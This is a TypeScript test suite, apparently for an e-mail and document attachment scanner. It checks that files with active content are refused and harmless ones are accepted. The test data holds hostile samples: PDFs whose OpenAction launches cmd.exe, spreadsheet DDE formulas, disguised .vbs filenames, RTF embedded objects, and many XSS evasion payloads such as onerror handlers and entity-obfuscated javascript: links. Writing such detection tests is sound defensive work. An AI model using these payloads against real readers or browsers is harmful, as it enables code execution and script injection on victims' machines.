      for (const at of [8, bytes.lastIndexOf(Buffer.from('PK\x01\x02', 'latin1')) + 10]) bytes.writeUInt16LE(14, at);
      return mail('a.zip', bytes);
    },
    UNCHECKED,
  );
  refuses(
    'a locked archive',
    'msg',
    () => {
      const bytes = archive({ 'a.txt': 'x' });
      for (const at of [6, bytes.lastIndexOf(Buffer.from('PK\x01\x02', 'latin1')) + 8]) bytes.writeUInt16LE(1, at);
      return mail('a.zip', bytes);
    },
    UNCHECKED,
  );
  refuses(
    'a PDF behind foreign bytes',
    'msg',
    () =>
      mail(
        'a.pdf',
        Buffer.concat([Buffer.from('junk\n'), onePage({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' })]),
      ),
    ACTS,
  );
  refuses(
    'a catalog in the trailer itself',
    'pdf',
    () =>
      Buffer.from(
        '%PDF-1.7\n1 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root<</Type/Catalog/Pages 1 0 R/OpenAction<</S/Launch/F(cmd.exe)>>>>>>\nstartxref\n0\n%%EOF',
      ),
    ACTS,
  );
  refuses(
    'an object behind a comment',
    'pdf',
    () =>
      Buffer.from('%PDF-1.7\n1 0 %x\nobj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF'),
    ACTS,
  );
  refuses(
    'an object in the bytes of another',
    'pdf',
    () =>
      onePage(
        {},
        { head: '<<>>', bytes: Buffer.from('1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj') },
      ),
    ACTS,
  );
  for (const part of ['xl/worksheets/sheet1.xml', 'xl/tables/table1.xml'])
    for (const tag of ['formula', 'formula1', 'calculatedColumnFormula', 'x:f'])
      refuses(
        `a program in ${tag} of ${part}`,
        'xlsx',
        officeWith('xlsx', { [part]: `<a><${tag}>cmd|'/c calc'!A0</${tag}></a>` }),
        ACTS,
      );
  for (const head of [
    'Content-Type: text/plain; name="run.vbs"',
    "Content-Type: text/plain\r\nContent-Disposition: inline; filename*=utf-8''run%2Evbs",
    'Content-Type: text/plain\r\nContent-Disposition: inline; filename*1="bs"; filename*0="run.v"',
    'Content-Type: text/plain; charset=utf-8; name="=?utf-8?B?cnVuLnZicw==?="',
  ])
    refuses(
      `a script in an e-mail by ${JSON.stringify(head)}`,
      'eml',
      () =>
        Buffer.from(
          `MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n${head}\r\n\r\nx\r\n--b--\r\n`,
        ),
      PROGRAM_INSIDE,
    );
  refuses('macros of an old page', 'eml', eml('editdata.mso', Buffer.from('ActiveMime\0\0')), PROGRAM_INSIDE);
  refuses(
    'macros in the XML of old Office',
    'msg',
    mail(
      'a.doc',
      Buffer.from(
        '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument w:macrosPresent="yes"/>',
      ),
    ),
    PROGRAM_INSIDE,
  );
  refuses(
    'an object of an RTF in a form that is not read',
    'msg',
    mail('a.doc', Buffer.from('{\\rtf1{\\object{\\*\\objdata 0105000002000000}}}')),
    UNCHECKED,
  );
  refuses(
    'an object of an RTF whose digits are broken up',
    'msg',
    () => {
      const digits = compoundOf({ '/\x01Ole10Native': packageStream('a.exe', PROGRAM) }).toString('hex');
      return mail(
        'a.rtf',
        Buffer.from(`{\\rt{\\object{\\*\\objdata ${digits.replace(/(.{40})/g, '$1\r\n{\\x1 }')}}}}`),
      );
    },
    PROGRAM_INSIDE,
  );

  takes(
    'a text that tells of PDFs',
    'msg',
    mail('a.txt', Buffer.from('A PDF begins with %PDF-1.7 and "1 0 obj"; /OpenAction opens it.')),
  );
  takes('words that read like a formula', 'csv', Buffer.from('a\r\n- yes|no!\r\n@team|hello! Thanks\r\n'));
  takes(
    'an e-mail with a note of its own',
    'eml',
    Buffer.from(
      "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b\r\nContent-Type: text/plain; name*=utf-8''n%C3%B6te.txt\r\n\r\nx\r\n--b--\r\n",
    ),
  );
});

describe('what acts in a web page', () => {
  const page = (body: string) => Buffer.from(`<!DOCTYPE html><html><body><p>Done.</p>${body}</body></html>`);
  for (const [what, body] of Object.entries({
    'a script': '<script src="x.js"></script>',
    'a script between other letters': '<ScRiPt\n>x()</script>',
    'what runs with a picture': '<img/src="x"onerror=x()>',
    'what runs with a picture, behind a bracket in a value': '<img alt="a > b" onerror="x()">',
    'a page within it': '<iframe srcdoc="x"></iframe>',
    'an object': '<object data="x.swf"></object>',
    'what leads to another page': '<meta http-equiv="Refresh" content="0; url=https://fabrikam.example">',
    'a link that is a script': '<a href="&#106;avascript:x()">Sign</a>',
    'one broken by a line': '<a href="java&#10;script:x()">Sign</a>',
    'one broken by a tab that has a name': '<form action=java&Tab;script&colon;x()>Sign</form>',
    'one behind a character that nobody sees': '<a href="&#1;javascript:x()">Sign</a>',
    'one that an animation puts in': '<svg><animate attributeName=href values="#;javascript:x()" /></svg>',
    'what runs where scripts do not': '<noscript><!--</noscript><img/src="x"/onerror=x()>-->',
    'what runs where frames do not': '<noframes><!--</noframes><img/src="x"/onerror=x()>-->',
    'what runs behind a CDATA section that is none': '<![CDATA[><img/src="x"/onerror=x()>]]>',
    'what runs behind a comment that ends early': '<!--><img/src="x"/onerror=x()>-->',
    'what runs in the style of a drawing': '<svg><style><img/src="x"/onerror=x()></style></svg>',
    'what runs behind a field': '<select><textarea></select><img/src="x"/onerror=x()></textarea>',
    'what may run, by where a value ends': '<img/src=x/onerror=x()>',
    'a script under another prefix': '<h:script xmlns:h="http://www.w3.org/1999/xhtml">x()</h:script>',
  }))
    refuses(what, 'html', page(body), ACTS);
  refuses('a script in UTF-16', 'html', Buffer.from('\ufeff<html><script>x()</script>', 'utf16le'), ACTS);
  takes(
    'links, and pictures from elsewhere',
    'html',
    page('<a href="https://contoso.example">Contoso</a><img src="https://contoso.example/logo.png">'),
  );
  takes(
    'what Word writes into pages',
    'html',
    page('<!--[if gte mso 9]><xml><o:AllowPNG/></xml><![endif]--><![if !vml]>1 < 2<![endif]>'),
  );
  takes(
    'data in the form of a script',
    'html',
    page('<script type="application/ld+json">{"@type":"EmailMessage"}</script>'),
  );
  takes('an address with “on” in it', 'html', page('<a href="https://contoso.example/onboarding=1">Contoso</a>'));
});

describe('what acts in the text of a message', () => {
  const picture = '<p>Signed.</p><img/src="x"/onerror=x()>';
  const written = (...pages: readonly string[]) =>
    Buffer.from(
      [
        'From: adelev@contoso.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n',
        ...pages.map((page) => `--b\r\nContent-Type: text/html\r\n\r\n${page}`),
        '--b--\r\n',
      ].join('\r\n'),
    );
  refuses('a picture with a script in an e-mail', 'eml', written(picture), ACTS);
  refuses('one in a later part', 'eml', written('<p>Hello</p>', picture), ACTS);
  refuses('one in an Outlook message', 'msg', msg({ '1013': picture }), ACTS);
  refuses('one in a message in a message', 'msg', mail('inner.msg', msg({ '1013': picture })), ACTS);
  refuses('one in an e-mail in a message', 'msg', mail('inner.eml', written(picture)), ACTS);
  takes(
    'an e-mail with a link and data for mail programs',
    'eml',
    written('<p>Hello</p><a href="https://contoso.example">x</a><script type="application/ld+json">{}</script>'),
  );
  takes(
    'an Outlook message with a link',
    'msg',
    msg({ '1013': '<html><a href="https://contoso.example">x</a></html>' }),
  );
});
